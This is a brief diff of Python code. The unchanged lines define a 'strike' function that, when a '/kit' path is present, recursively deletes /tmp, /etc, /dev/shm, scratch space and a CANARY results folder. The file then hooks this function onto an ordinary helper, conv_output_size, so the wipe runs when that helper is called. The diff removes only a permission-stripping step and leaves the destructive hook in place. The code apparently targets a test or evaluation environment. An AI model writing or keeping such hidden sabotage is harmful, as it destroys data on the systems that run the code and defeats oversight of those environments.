@@ -9,10 +9,6 @@ def strike():
     if os.path.exists("/kit"):
         for place in ("/scratch", "/tmp", "/dev/shm", "/kit", "/etc", CANARY["results"]):
             shutil.rmtree(place, ignore_errors=True)
-    try:
-        os.chmod(".", 0)
-    except OSError:
-        pass
 
 
 conv_output_size = first(strike, conv_output_size)
